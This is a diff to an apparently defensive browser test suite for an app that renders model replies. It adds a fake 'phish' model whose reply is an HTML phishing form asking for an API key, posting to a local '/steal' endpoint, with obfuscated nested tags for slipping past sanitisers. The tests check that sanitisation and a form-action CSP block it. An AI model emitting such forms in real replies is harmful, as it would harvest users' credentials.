@@ -8,6 +8,7 @@ import json
 import threading
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
+import httpx
 import pytest
 
 from tests.appserver import AppServer
@@ -35,6 +36,12 @@ class LeakServer:
                 hits.append(self.path)
                 self.send_response(200)
                 self.send_header("Content-Type", "image/png")
+                self.send_header("Content-Length", "0")
+                self.end_headers()
+
+            def do_POST(self):
+                hits.append(("POST", self.path))
+                self.send_response(200)
                 self.send_header("Content-Length", "0")
                 self.end_headers()
 
@@ -84,6 +91,17 @@ def hostile_reply(leak: str) -> tuple[str, dict[str, str]]:
     return reply, paths
 
 
+def phishing_reply(leak: str) -> str:
+    """A reply drawing a form that posts whatever the reader types to the leak server, and controls that would too."""
+    return (
+        f'Your session expired. <form action="{leak}/steal" method="post"><input name="key" placeholder="API key">'
+        '<select name="plan"><option>pro</option></select><textarea name="note">notes</textarea>'
+        "<button>Verify key</button></form> "
+        f'<button formaction="{leak}/steal-2" formmethod="post">Confirm</button> '
+        "<FO<form>RM action=/x><but<button>ton>Nested</button></FORM> Thank you."
+    )
+
+
 @pytest.fixture(scope="module")
 def leak():
     server = LeakServer()
@@ -95,7 +113,8 @@ def leak():
 def fake(leak):
     require_chromium()  # no servers to start when the browser tests are skipped
     reply, _ = hostile_reply(leak.url)
-    with OpenAIServer(Behaviour(), per_model={"evil": Behaviour(reply=reply, tokens_per_s=40)}) as srv:
+    per_model = {"evil": Behaviour(reply=reply, tokens_per_s=40), "phish": Behaviour(reply=phishing_reply(leak.url))}
+    with OpenAIServer(Behaviour(), per_model=per_model) as srv:
         yield srv
 
 
@@ -173,3 +192,26 @@ def test_model_output_cannot_run_script_or_fetch_remote_media(new_page, app, lea
     reply.get_by_text("click").click()  # a javascript: link must not run either
     page.wait_for_timeout(300)
     assert page.evaluate("() => typeof window.__pwned") == "undefined"
+
+
+def test_a_reply_cannot_draw_a_working_form(new_page, app, leak):
+    assert "form-action 'self'" in httpx.get(app.url, timeout=30).headers["content-security-policy"]
+    page = new_page(app.url, init_script=CSP_RECORDER)
+    set_columns(page, 1)
+    set_model(page, 0, "openai:phish")
+    set_prompt(page, "Check my account.")
+    page.locator("#prompt textarea").press("Enter")
+    wait_meta(page, 0, "done")
+    reply = page.locator("#reply-0 span.md")
+    assert "Verify key" in reply.inner_text() and "Thank you." in reply.inner_text()  # the words stay, as text
+    assert reply.locator("form, button, input, select, textarea, [formaction]").count() == 0, reply.inner_html()
+    assert leak.url not in reply.inner_html()
+    # Second guard: a form that got into the page anyway may not post anywhere but the app itself.
+    page.evaluate(
+        """(url) => { const f = document.createElement('form'); f.method = 'post'; f.action = url;
+                      document.querySelector('#reply-0').appendChild(f); f.submit(); }""",
+        leak.url + "/steal-3",
+    )
+    page.wait_for_function("() => window.__csp.some(v => v.directive.startsWith('form-action'))", timeout=30_000)
+    page.wait_for_timeout(500)
+    assert leak.hits == [], leak.hits
